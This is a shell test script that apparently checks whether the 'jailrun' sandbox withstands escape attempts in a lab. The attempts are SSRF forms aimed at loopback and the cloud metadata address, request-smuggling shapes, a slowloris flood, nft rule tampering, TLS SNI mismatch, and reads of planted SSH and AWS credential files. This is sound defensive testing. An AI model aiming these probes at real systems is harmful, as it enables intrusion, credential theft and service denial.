expect_status 0 "baseline: SSRF forms" base sh -c 'for u in "$@"; do printf "%s => " "$u"; curl -sS -g --noproxy "*" -m 3 "$u" 2>&1 | head -n1; done' sh \
	http://loopback.test:8080/ http://metadata.test/ http://127.0.0.1:8080/ http://169.254.169.254/ \
	http://2130706433:8080/ http://0x7f000001:8080/ http://0177.0.0.1:8080/ http://127.1:8080/ \
	'http://[::ffff:127.0.0.1]:8080/' 'http://[::1]:8080/' http://2852039166/
every_line "baseline: every form reaches its target" " => " "=> served-by: (lab-host-loopback|metadata.test)"
for m in $modes; do
	lab_logs_clear
	expect_status 0 "$m: SSRF, names allowed" jl "$m" --allow allowed.test --allow loopback.test --allow metadata.test -- sh -c '
		"$0" "$1" proxy-get "$@"
		"$0" "$1" tcp 127.0.0.1 8080
		curl -sS -m 10 -i http://loopback.test:8080/ | grep -i "^x-jailrun-deny"
		curl -sS -m 10 --noproxy "*" http://loopback.test:8080/ 2>&1 | head -n1' "$PY" "$PR" "${SSRF[@]}"
	every_line "$m: every form refused" "RESULT get" "=> status=\[HTTP/1.1 (403|400) [^]]*\] responses=1 served-by=- "
	has_re "$m: loopback.test (allowlisted, A 127.0.0.1) refused as special-address" "get http://loopback.test:8080/ .*deny=special-address"
	has_re "$m: metadata.test (allowlisted) refused as special-address" "get http://metadata.test/ .*deny=special-address"
	has_re "$m: CONNECT loopback.test refused as special-address" "get CONNECT=loopback.test:8080 .*deny=special-address"
	expect_output_has "$m: direct 127.0.0.1:8080 is the sandbox's own loopback" "RESULT tcp 127.0.0.1:8080 blocked ECONNREFUSED"
	has_re "$m: curl through the proxy env is refused" "X-Jailrun-Deny: special-address"
	lacks "$m: curl without the proxy reaches nothing" "served-by: lab-host-loopback"
	expect_status 0 "$m: SSRF, --allow 0.0.0.0/0 ::/0" jl "$m" --allow 0.0.0.0/0 --allow ::/0 --allow loopback.test \
		--allow metadata.test --allow localhost -- "$PY" "$PR" proxy-get "${SSRF[@]}"
	every_line "$m: broad CIDRs: every form refused as special-address or bad-host" "RESULT get" \
		"=> status=\[HTTP/1.1 403 [^]]*\] responses=1 served-by=- host-header=- deny=(special-address|bad-host)$"
	never_served "$m" lab-host-loopback
	never_served "$m" metadata.test
done

###########################################################################
SHAPES_400="clte tecl tete-dup te-xchunked te-space te-list cl-conflict cl-list bare-lf bare-cr obs-fold"
SHAPES_DESYNC="clte tecl tete-dup te-xchunked te-list te-tab cl-conflict bare-lf bare-cr pipeline"
probe smuggling "request smuggling shapes through the proxy, each hiding a second request (GET /SMUGGLED-...) for denied.test: CL+TE, TE+CL, TE+TE (duplicate, xchunked, space before colon, list, tab), conflicting CL, CL list, bare LF, bare CR, obs-fold, a pipelined request to denied.test after an allowed one, absolute-form with Host: denied.test, and GET http://denied.test/ inside a CONNECT tunnel to allowed.test:80" \
	"400 for every malformed shape; te-tab (valid) served once; one response for the pipeline; the URI wins over Host; the tunnel request lands at allowed.test's server; no SMUGGLED request ever reaches any server, denied.test never served" \
	"sent straight to allowed.test's server (no proxy) these shapes desync it: $SHAPES_DESYNC (its log shows the hidden request); te-space, obs-fold and cl-list do not fool the lab server's own parser, and the CONNECT tunnel exists only through the relay: no baseline for those"
lab_logs_clear
# shellcheck disable=SC2086 # shape lists split on purpose
expect_status 0 "baseline: shapes sent directly" base "$PY" "$PR" http-raw --timeout 1 "$ALLOWED4:80" \
	$SHAPES_DESYNC te-space obs-fold cl-list abs-host
for s in $SHAPES_DESYNC; do
	if grep -q "SMUGGLED-$s " "$LAB_WEBLOG"; then ok "baseline: $s desyncs the lab server directly"
	else fail "baseline: $s did not desync the lab server: $(grep -F "shape $s " <<<"$OUT")"; fi
done
has_re "baseline: Host: denied.test arrives as is without the relay" "shape abs-host .*host-header=denied.test"
for m in $modes; do
	lab_logs_clear
	# shellcheck disable=SC2086 # shape lists split on purpose
	expect_status 0 "$m: smuggling shapes" jl "$m" --allow allowed.test -- "$PY" "$PR" http-raw proxy \
		$SHAPES_400 te-tab pipeline abs-host connect-inner
	for s in $SHAPES_400; do
		expect_output_has "$m: $s answered 400" "RESULT shape $s status=[HTTP/1.1 400 Bad Request] responses=1 served-by=-"
	done
	expect_output_has "$m: te-tab served once" "RESULT shape te-tab status=[HTTP/1.1 200 OK] responses=1 served-by=allowed.test"
	expect_output_has "$m: pipeline: one response, from allowed.test" \
		"RESULT shape pipeline status=[HTTP/1.1 200 OK] responses=1 served-by=allowed.test host-header=allowed.test"
	expect_output_has "$m: absolute-form wins over Host" "RESULT shape abs-host status=[HTTP/1.1 200 OK] responses=1 served-by=allowed.test host-header=allowed.test"
	expect_output_has "$m: the request in the tunnel went to allowed.test's server" "inner: status=[HTTP/1.1 200 OK] responses=1 served-by=allowed.test"
	if grep -q SMUGGLED "$LAB_WEBLOG"; then fail "$m: a smuggled request reached a server: $(grep SMUGGLED "$LAB_WEBLOG")"
	else ok "$m: no smuggled request reached any server"; fi
	if lab_web_served allowed.test /TUNNEL-inner || lab_web_served allowed.test http://denied.test/TUNNEL-inner; then
		ok "$m: the tunnel request is in allowed.test's log"
	else fail "$m: the tunnel request is not in allowed.test's log: $(cat "$LAB_WEBLOG")"; fi
	never_served "$m" denied.test
done

###########################################################################
probe relay-dos "starve the relay: 300 slowloris clients (one header byte per second), then a flood of 3000 connections (> --max-conns 500), with --header-timeout 5, while another client makes a real request" \
	"the real request is served during the slowloris while the relay still holds every slowloris client (before its header timeout cut any), and during the flood; slowloris clients cut at the header timeout; the overflow answered 503 connection-limit (times are printed, not judged: the probe's waits only guard against hanging)" \
	"none possible: the relay is jailrun's own (the lab's servers have no slot limit to starve)"
for m in $modes; do
	rm -f "$JR_W/dos-$m.log"
	# The header timeout leaves room for opening 300 connections on a
	# loaded machine before the first is cut; the run limit is a hang guard.
	JR_RUN_LIMIT=180 expect_status 0 "$m: slowloris + flood" jl "$m" --allow allowed.test --max-conns 500 --header-timeout 5 \
		--log "$JR_W/dos-$m.log" -- "$PY" "$PR" flood --slow 300 --slow-seconds 40 --flood 3000 --budget 40
	grep '^RESULT' <<<"$OUT" | sed 's/^/    /'
	has_re "$m: real request served during the slowloris, every slowloris client still held" \
		"RESULT slowloris .* real-request=served in [0-9.]+ s held-when-served=300 "
	expect_output_has "$m: slowloris clients cut by the relay" "closed-by-relay=300"
	has_re "$m: real request served during the flood" "RESULT flood .* real-request=served in [0-9.]+ s"
	has_re "$m: the overflow got 503 (2400+ of 2500)" "got-503=(2[4-9][0-9][0-9]|[3-9][0-9]{3}) "
	expect_output_has "$m: served after the flood" "RESULT after-flood real-request=served"
	n=$(audit_count "$JR_W/dos-$m.log" '"reason":"connection-limit"')
	t=$(audit_count "$JR_W/dos-$m.log" '"reason":"header-timeout"')
	if [ "$n" -ge 2400 ] && [ "$t" -ge 300 ]; then ok "$m: audit log: $n connection-limit, $t header-timeout"
	else fail "$m: audit log: $n connection-limit, $t header-timeout"; fi
done

###########################################################################
probe watchdog "from outside (root, in the sandbox's netns): nft flush ruleset, then add table inet evil with accept chains, while the command connects straight to denied.test every 3 ms until the tamper is over" \
	"zero successes, denied.test never served; the flush leaves the owned table; the evil table removed (restore; jailrun's own max_restore_us under 1 s; the outside view is printed, not judged); with --on-tamper kill: exit 125, ended tamper-killed" \
	"in the lab host the same loop connects, and an added table stays (no watchdog)"
lab_host nft add table inet evil
expect_status 0 "baseline: connect loop" base "$PY" "$PR" loop-connect "$DENIED4" 80 0.3 base
has_re "baseline: the loop connects" "successes=[1-9]"
tables=$(lab_host nft list tables 2>&1 || true)
if grep -q 'inet evil' <<<"$tables"; then ok "baseline: the table added before the loop is still there after it"; else fail "baseline: the table vanished"; fi
lab_host nft delete table inet evil
for m in $modes; do
	lab_logs_clear
	rm -f "$JR_W/wd-$m.json"
	mark=jr-wd-$m-$$
	stop=$JR_W/wd-stop-$m
	rm -f "$stop"
	jl "$m" --allow allowed.test --json "$JR_W/wd-$m.json" -- "$PY" "$PR" loop-connect --stop-file "$stop" \
		"$DENIED4" 80 50 "$mark" >"$JR_W/wd-$m.out" 2>&1 &
	bg=$!
	pid=$(pid_of "$mark")
	if [ -z "$pid" ]; then
		fail "$m: the sandboxed loop never appeared"
		touch "$stop"
		wait "$bg" || true
		continue
	fi
	expect_status 0 "$m: tamper from outside" lab_host "$PY" "$PR" nft-tamper-watch "$pid"
	touch "$stop"
	printf '%s\n' "$OUT" | sed 's/^/    /'
	expect_output_has "$m: the owned table is there" "before tables=[inet:jailrun]"
	expect_output_has "$m: nft flush ruleset leaves it" "after-flush tables=[inet:jailrun]"
	expect_output_has "$m: the evil table was added" "add-evil rc=0"
	# Seen from outside the removal time includes spawning nft: printed,
	# not judged. jailrun's own figure is checked in the summary below.
	lat=$(sed -n 's/.*removed \([0-9.]*\) ms after nft returned (\([0-9.]*\) ms after nft started.*/\2/p' <<<"$OUT")
	if [ -n "$lat" ]; then ok "$m: the evil table was removed (seen gone $lat ms after nft started)"
	else fail "$m: evil table never removed"; fi
	expect_output_has "$m: only jailrun's table in the end" "final tables=[inet:jailrun]"
	st=0
	wait "$bg" || st=$?
	OUT=$(cat "$JR_W/wd-$m.out")
	if [ "$st" = 0 ]; then ok "$m: the command ran to its end (status 0)"; else fail "$m: jailrun status $st: $OUT"; fi
	expect_output_has "$m: zero direct connections succeeded" "successes=0 "
	never_served "$m" denied.test
	r=$(sum "$JR_W/wd-$m.json" '"%d %d %d" % (s["network"]["tamper_events"], s["network"]["restores"], s["network"]["max_restore_us"])')
	echo "    $m: measured removal ${lat:-?} ms; summary tamper_events restores max_restore_us = $r"
	if [ "$(echo "$r" | cut -d' ' -f1)" -ge 1 ] && [ "$(echo "$r" | cut -d' ' -f2)" -ge 1 ] &&
		[ "$(echo "$r" | cut -d' ' -f3)" -gt 0 ] && [ "$(echo "$r" | cut -d' ' -f3)" -lt 1000000 ]; then
		ok "$m: the summary counts the tamper and the restore (max_restore_us $(echo "$r" | cut -d' ' -f3))"
	else fail "$m: summary: $(cat "$JR_W/wd-$m.json")"; fi
	# A live sandbox, its start long returned, keeps the watchdog's
	# warning in its NAME.log.
	if [ "${ESCAPE_VIA:-run}" = exec ]; then
		if grep -q "jailrun: warning: watchdog: rules tampered with .*restored and verified" "$JR_W/live-logs-$m" 2>/dev/null; then
			ok "$m: the live sandbox's NAME.log has the watchdog's restore"
		else
			fail "$m: no restore in the live sandboxes' logs: $(cat "$JR_W/live-logs-$m" 2>&1)"
		fi
	fi

	# --on-tamper kill
	rm -f "$JR_W/wdk-$m.json"
	mark=jr-wdk-$m-$$
	# The loop would run 50 s: only the kill ends it sooner (status 125).
	jl "$m" --allow allowed.test --on-tamper kill --json "$JR_W/wdk-$m.json" -- "$PY" "$PR" loop-connect \
		--stop-file "$JR_W/wdk-never-$m" "$DENIED4" 80 50 "$mark" >"$JR_W/wdk-$m.out" 2>&1 &
	bg=$!
	pid=$(pid_of "$mark")
	if [ -n "$pid" ]; then nsenter --net="/proc/$pid/ns/net" nft add table inet evil || true; fi
	st=0
	wait "$bg" || st=$?
	OUT=$(cat "$JR_W/wdk-$m.out")
	if [ "$st" = 125 ]; then ok "$m: --on-tamper kill: jailrun exits 125"; else fail "$m: --on-tamper kill: status $st: $OUT"; fi
	expect_output_has "$m: --on-tamper kill says why" "tampered with"
	if [ "$(sum "$JR_W/wdk-$m.json" 's["ended"]')" = tamper-killed ]; then ok "$m: summary ended tamper-killed"
	else fail "$m: summary: $(cat "$JR_W/wdk-$m.json")"; fi
done

###########################################################################
probe tls-sni "CONNECT allowed.test:443 (and CONNECT to its address), then a TLS ClientHello naming denied.test (unverified, so a forwarded hello would complete with allowed.test's server; and verified with the lab CA), one with no SNI, and a matching one" \
	"the relay closes the tunnel before forwarding the hello: handshake fails, no request in any web log, audit reason sni-mismatch / sni-missing; the matching SNI works; CONNECT to an allowed address literal: SNI denied.test cut, no SNI passes (documented)" \
	"straight to allowed.test's server in the lab host, the hello naming denied.test completes and the request is served"
lab_logs_clear
expect_status 0 "baseline: TLS with SNI denied.test" base "$PY" "$PR" sni --direct "$ALLOWED4:443" --path sni-base denied.test
expect_output_has "baseline: handshake and request succeed" "HANDSHAKE-OK status=[HTTP/1.1 200 OK] responses=1 served-by=allowed.test"
for m in $modes; do
	lab_logs_clear
	rm -f "$JR_W/sni-$m.log"
	expect_status 0 "$m: TLS SNI" jl "$m" --allow allowed.test --log "$JR_W/sni-$m.log" -- sh -c '
		"$0" "$1" sni --path sni-mismatch denied.test
		"$0" "$1" sni --verify --cafile "$2" --path sni-mismatch-verified denied.test
		"$0" "$1" sni --path sni-none -
		"$0" "$1" sni --verify --cafile "$2" --path sni-ok allowed.test' "$PY" "$PR" "$CA"
	has_re "$m: mismatched SNI: tunnel cut, handshake fails" "RESULT sni denied.test connect=\[HTTP/1.1 200 [^]]*\] handshake-failed"
	lacks "$m: mismatched SNI never completes" "RESULT sni denied.test connect=[HTTP/1.1 200 Connection established] HANDSHAKE-OK"
	has_re "$m: no SNI: tunnel cut" "RESULT sni - connect=\[HTTP/1.1 200 [^]]*\] handshake-failed"
	expect_output_has "$m: matching SNI works" "RESULT sni allowed.test connect=[HTTP/1.1 200 Connection established] HANDSHAKE-OK status=[HTTP/1.1 200 OK] responses=1 served-by=allowed.test"
	# CONNECT to an allowed address literal: any server name is a mismatch;
	# only a hello without one passes (the documented exception).
	expect_status 0 "$m: TLS SNI, CONNECT to an address literal" jl "$m" --allow "$ALLOWED4" \
		--log "$JR_W/sni-$m.log" -- sh -c '
		"$0" "$1" sni --connect "$2:443" --path sni-lit-mismatch denied.test
		"$0" "$1" sni --connect "$2:443" --path sni-lit-none -' "$PY" "$PR" "$ALLOWED4"
	has_re "$m: address literal + SNI denied.test: tunnel cut" "RESULT sni denied.test connect=\[HTTP/1.1 200 [^]]*\] handshake-failed"
	expect_output_has "$m: address literal without SNI passes (documented)" "RESULT sni - connect=[HTTP/1.1 200 Connection established] HANDSHAKE-OK"
	if grep -qE '/sni-(mismatch|none|lit-mismatch)' "$LAB_WEBLOG"; then fail "$m: a refused tunnel's request was served: $(grep -E '/sni-' "$LAB_WEBLOG")"
	else ok "$m: no refused tunnel's request reached a server"; fi
	n=$(audit_count "$JR_W/sni-$m.log" '"reason":"sni-mismatch"')
	if [ "$n" = 3 ]; then ok "$m: audit: 3 sni-mismatch"; else fail "$m: audit: $n sni-mismatch, want 3: $(cat "$JR_W/sni-$m.log")"; fi
	if grep -q '"reason":"sni-missing"' "$JR_W/sni-$m.log"; then ok "$m: audit: sni-missing"; else fail "$m: audit lacks sni-missing"; fi
	never_served "$m" denied.test
done

###########################################################################
probe seccomp-off "the second walls, with the filter switched off (--seccomp off): io_uring connect to denied.test, AF_PACKET, and a process in a new user+net namespace" \
	"io_uring's connect reset by the nft rules (ECONNREFUSED); AF_PACKET refused by the kernel (no capability: EPERM); the watchdog finds the process outside the sandbox's netns and ends the sandbox (125)" \
	"as in the io_uring, af-packet and new-netns probes"
for m in $modes; do
	expect_status 0 "$m: --seccomp off: io_uring, AF_PACKET" jl "$m" --seccomp off --allow allowed.test -- sh -c \
		'"$0" "$2" 80; "$1" "$3" packet' "$JR_TMP/iouring" "$PY" "$DENIED4" "$PR"
	expect_output_has "$m: io_uring connect reset by the rules" "RESULT io_uring connect $DENIED4:80 ECONNREFUSED"
	expect_output_has "$m: AF_PACKET needs a capability" "RESULT packet socket EPERM"
	rm -f "$JR_W/so-$m.json"
	expect_status 125 "$m: --seccomp off: new netns ends the sandbox" jl "$m" --seccomp off --watchdog-interval 0.1 \
		--allow allowed.test --json "$JR_W/so-$m.json" -- sh -c 'unshare -rn sleep 40; echo STILL-RUNNING'
	expect_output_has "$m: the watchdog names it" "network namespace jailrun did not arm"
	lacks "$m: the command did not run on" "STILL-RUNNING"
done

###########################################################################
probe filesystem "from the working directory: write the read-only host (/etc, ~/.bashrc, a directory outside), the protected .git/hooks and .git/config, read ~/.ssh and ~/.aws; through a planted and a new symlink, '..', a hard link, /proc/self/root, /proc/1/root, an O_PATH or read-only fd reopened through /proc/self/fd; mount, umount, remount, pivot_root, open_tree + mount_setattr; with --allow-nested the same from a new user+mount namespace" \
	"writes EROFS (links EXDEV: another mount), secrets ENOENT (covered by an empty directory), /proc/1/root EACCES; the mount family EPERM; nested: the inherited mounts are locked (umount EINVAL, clearing read-only EPERM, a non-recursive clone that would leave a cover behind EINVAL) and the walls hold after; the controls (write the working directory and /tmp, read ~/.bashrc) work; the host files are unchanged" \
	"nobody (the command's user) in the lab host, in the same fake home and repository: every write and read works, in a new user+mount namespace remount and writes work; /etc is EACCES there (no write permission: the sandbox's answer EROFS is the mount's), the mount family EPERM (no capability: shown to work in the nested baseline)"
if [ "$(id -u)" -eq 0 ]; then FSB=$(mktemp -d /var/lib/jailrun-esc.XXXXXX); else FSB=$(mktemp -d "$HOME/.jailrun-esc.XXXXXX"); fi
fs_cleanup() { rm -rf "$FSB"; rm -f /etc/jailrun-escape-* 2>/dev/null || true; }
lab_on_exit fs_cleanup
chmod 755 "$FSB"
FSHOME=$FSB/home FSREPO=$FSB/repo FSOUT=$FSB/outside
# The probe where the sandbox sees it: the working directory is $FSREPO
# here, so $JR_TMP (under /tmp) is behind the private /tmp.
FSPR=$FSB/probe.py
install -m 644 "$PR" "$FSPR"
fs_plant() {
	rm -rf "$FSHOME" "$FSREPO" "$FSOUT"
	mkdir -p "$FSHOME/.ssh" "$FSHOME/.aws" "$FSOUT" "$FSREPO"
	echo SECRET-SSH-KEY >"$FSHOME/.ssh/id_ed25519"
	echo SECRET-AWS-KEY >"$FSHOME/.aws/credentials"
	echo "# rc" >"$FSHOME/.bashrc"
	git -C "$FSREPO" init -q
	mkdir -p "$FSREPO/.git/hooks"
	ln -s "$FSHOME/.ssh" "$FSREPO/ssh-link"
	chown -R "$JR_NOBODY_UID:$JR_NOBODY_GID" "$FSHOME" "$FSREPO" "$FSOUT"
	chmod 700 "$FSHOME/.ssh"
	FS_GITCONFIG=$(cat "$FSREPO/.git/config")
}
# fs_base ARGS... - the probe as nobody in the lab host, no jailrun
fs_base() { lab_host_as nobody timeout 60 env -C "$FSREPO" HOME="$FSHOME" "$PY" "$FSPR" fs "$@" </dev/null; }
# fs_jl CALLER JAILRUN-ARGS... -- PROBE-ARGS... - as jl, from the fake repository with the fake home
fs_jl() {
	local c=$1
	shift
	case $c in
	root) lab_host timeout -k 5 "$JR_RUN_LIMIT" env -C "$FSREPO" HOME="$FSHOME" "$JR" "$@" </dev/null ;;
	rootless) lab_host_as nobody timeout -k 5 "$JR_RUN_LIMIT" env -C "$FSREPO" HOME="$FSHOME" "$JR" "$@" </dev/null ;;
	esac
}
# fs_is DESC LABEL REGEX - the probe's RESULT line for LABEL answers REGEX
fs_is() {
	if grep -qE -- "^RESULT fs $2 ($3)( |\$)" <<<"$OUT"; then ok "$1: $2: $3"
	else fail "$1: $2: want /$3/, got: $(grep -E -- "^RESULT fs $2 " <<<"$OUT" || echo '(no line)')"; fi
}
# fs_host_unchanged DESC - nothing of the fake home or repository changed on the host
fs_host_unchanged() {
	local bad=()
	[ "$(cat "$FSHOME/.bashrc")" = "# rc" ] || bad+=(".bashrc: $(cat "$FSHOME/.bashrc")")
	[ "$(cat "$FSREPO/.git/config")" = "$FS_GITCONFIG" ] || bad+=(".git/config changed")
	[ ! -e "$FSREPO/.git/hooks/pre-commit" ] || bad+=("a pre-commit hook")
	[ -z "$(ls -A "$FSOUT")" ] || bad+=("outside: $(ls -A "$FSOUT")")
	! ls /etc/jailrun-escape-* >/dev/null 2>&1 || bad+=("/etc: $(ls /etc/jailrun-escape-*)")
	if [ ${#bad[@]} = 0 ]; then ok "$1: the host's files are unchanged"; else fail "$1: ${bad[*]}"; fi
}
fs_plant
expect_status 0 "baseline: filesystem attempts" fs_base "$FSHOME" "$FSOUT"
for l in control-workdir-write control-tmp-write bashrc-append hook-create gitconfig-append dotdot-write \
	symlink-write hardlink-gitconfig hardlink-bashrc proc-self-root-bashrc-append opath-reopen-gitconfig \
	rdonly-reopen-bashrc after-bashrc-append after-gitconfig-append; do
	fs_is "baseline" "$l" OK
done
for l in ssh-read planted-symlink-read inner-symlink-read dotdot-read proc-self-root-ssh-read opath-reopen-ssh-dir \
	after-ssh-read; do
	fs_is "baseline" "$l" "OK SECRET-SSH-KEY"
done
fs_is "baseline" aws-read "OK SECRET-AWS-KEY"
fs_is "baseline: no write permission in /etc" etc-create EACCES
fs_plant
expect_status 0 "baseline: filesystem attempts in a new user+mount namespace" fs_base --nested "$FSHOME" "$FSOUT"
fs_is "baseline nested" nested-unshare OK
fs_is "baseline nested" nested-remount-root-rw OK
fs_is "baseline nested" nested-after-bashrc-append OK
fs_is "baseline nested" nested-after-ssh-read "OK SECRET-SSH-KEY"
for m in $modes; do
	fs_plant
	expect_status 0 "$m: filesystem attempts" fs_jl "$m" --allow allowed.test -- "$PY" "$FSPR" fs "$FSHOME" "$FSOUT"
	fs_is "$m: control" control-workdir-write OK
	fs_is "$m: control" control-tmp-write OK
	fs_is "$m: control, the host tree is readable" control-bashrc-read "OK #"
	for l in etc-create bashrc-append hook-create gitconfig-append dotdot-write symlink-write \
		proc-self-root-bashrc-append opath-reopen-gitconfig rdonly-reopen-bashrc after-bashrc-append \
		after-gitconfig-append; do
		fs_is "$m" "$l" EROFS
	done
	for l in ssh-read aws-read planted-symlink-read inner-symlink-read dotdot-read proc-self-root-ssh-read \
		opath-reopen-ssh-dir after-ssh-read; do
		fs_is "$m" "$l" ENOENT
	done
	fs_is "$m: another mount" hardlink-gitconfig EXDEV
	fs_is "$m: another mount" hardlink-bashrc EXDEV
	fs_is "$m: init's root is not the command's to open" proc-1-root-ssh-read EACCES
	fs_is "$m: init's root is not the command's to open" proc-1-root-bashrc-append EACCES
	for l in mount-tmpfs-over-workdir umount-gitconfig umount-ssh-cover remount-root-rw pivot-root \
		open-tree-clone-root clone-clear-rdonly clone-nonrecursive-reveal; do
		fs_is "$m" "$l" EPERM
	done
	fs_host_unchanged "$m"

	fs_plant
	expect_status 0 "$m: --allow-nested: filesystem attempts from a new user+mount namespace" \
		fs_jl "$m" --allow allowed.test --allow-nested -- "$PY" "$FSPR" fs --nested "$FSHOME" "$FSOUT"
	fs_is "$m: control: the namespace is made" nested-unshare OK
	fs_is "$m: locked" nested-umount-gitconfig EINVAL
	fs_is "$m: locked" nested-umount-ssh-cover EINVAL
	fs_is "$m: locked read-only" nested-remount-root-rw EPERM
	fs_is "$m: locked read-only" nested-clone-clear-rdonly EPERM
	fs_is "$m: a cover cannot be left behind" nested-clone-nonrecursive-reveal EINVAL
	fs_is "$m" nested-after-bashrc-append EROFS
	fs_is "$m" nested-after-gitconfig-append EROFS
	fs_is "$m" nested-after-ssh-read ENOENT
	fs_host_unchanged "$m: nested"
done

echo
finish
